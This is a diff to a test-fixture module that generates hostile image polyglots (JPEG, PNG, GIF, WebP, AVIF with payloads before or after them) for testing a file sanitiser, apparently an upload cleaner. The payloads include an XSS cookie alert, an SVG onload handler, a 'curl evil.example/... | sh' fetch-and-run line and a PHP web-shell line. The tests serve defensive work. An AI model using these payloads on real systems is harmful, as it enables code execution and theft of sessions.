@@ -28,7 +28,7 @@ import {
 export type Hostile = { name: string; bytes: Uint8Array<ArrayBuffer>; isPicture?: boolean }
 
 /** What must not be in any file that is kept. */
-export const BAD_MARKS = ['<script', '<svg', '<html', '%PDF', 'PK\x03\x04', 'GPSMARK']
+export const BAD_MARKS = ['<script', '<svg', '<html', '%PDF', 'PK\x03\x04', 'GPSMARK', 'HOSTILEMARK']
 
 const SCRIPT = '<script>alert(document.cookie)</script>'
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
@@ -442,6 +442,26 @@ const crowds = () => [
 
 const relation = (count: number) => box('auxl', big(1, 2), big(count, 2), ...Array(count).fill(big(1, 2)))
 
+const PAYLOADS: [name: string, payload: Part][] = [
+  ['a page', HTML],
+  ['an SVG', SVG],
+  ['a PDF', PDF],
+  ['a ZIP', ZIP],
+  ['a Windows program', join('MZ', big(0, 58), little(64, 4), 'PE\0\0HOSTILEMARK')],
+  ['a Linux program', '\x7fELF\x02\x01\x01HOSTILEMARK'],
+  ['a shell script', '#!/bin/sh\ncurl evil.example/HOSTILEMARK | sh\n'],
+  ['a PHP script', '<?php system($_GET["HOSTILEMARK"]); ?>'],
+]
+
+/** Every format with every payload behind it, which goes, and before it, where it is no picture any more. */
+const polyglots = () =>
+  Object.entries({ JPEG: jpeg, PNG: png, GIF: gif, WebP: webp, AVIF: avif }).flatMap(([format, make]) =>
+    PAYLOADS.flatMap(([name, payload]) => [
+      strip(`a ${format} with ${name} behind it`, make({ trailing: payload })),
+      refuse(`a ${format} with ${name} before it`, payload, make()),
+    ]),
+  )
+
 const cut = (name: string, bytes: Uint8Array) =>
   [12, 16, 24, 30, 40].map((length) => refuse(`a ${name} cut off after ${length} bytes`, bytes.subarray(0, length)))
 
@@ -454,6 +474,7 @@ export const hostileFiles = (): Hostile[] => [
   ...webps(),
   ...avifs(),
   ...crowds(),
+  ...polyglots(),
   ...cut('JPEG', jpeg(EVERYTHING)),
   ...cut('PNG', png(EVERYTHING)),
   ...cut('GIF', gif(EVERYTHING)),
